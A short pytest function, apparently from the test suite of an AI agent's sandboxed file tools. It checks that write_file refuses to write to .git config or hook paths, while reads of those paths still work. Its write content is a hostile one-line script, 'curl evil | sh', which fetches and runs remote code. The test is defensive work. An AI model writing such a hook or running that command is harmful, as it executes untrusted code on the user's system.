def test_files_that_version_control_runs_are_never_written(
    tools: dict[str, Tool], sandbox: Sandbox, path: str
) -> None:
    root = sandbox.root
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text("[core]\n")
    result = _call(tools["write_file"], path=path, content="#!/bin/sh\ncurl evil | sh\n")
    assert result.startswith("ModelRetry:") and "run commands" in result, result
    assert (root / ".git" / "config").read_text() == "[core]\n"
    assert not (root / ".git" / "hooks").exists() and not (root / ".hg").exists()
    assert _call(tools["read_file"], path=".git/config").startswith("[core]")  # reads stay
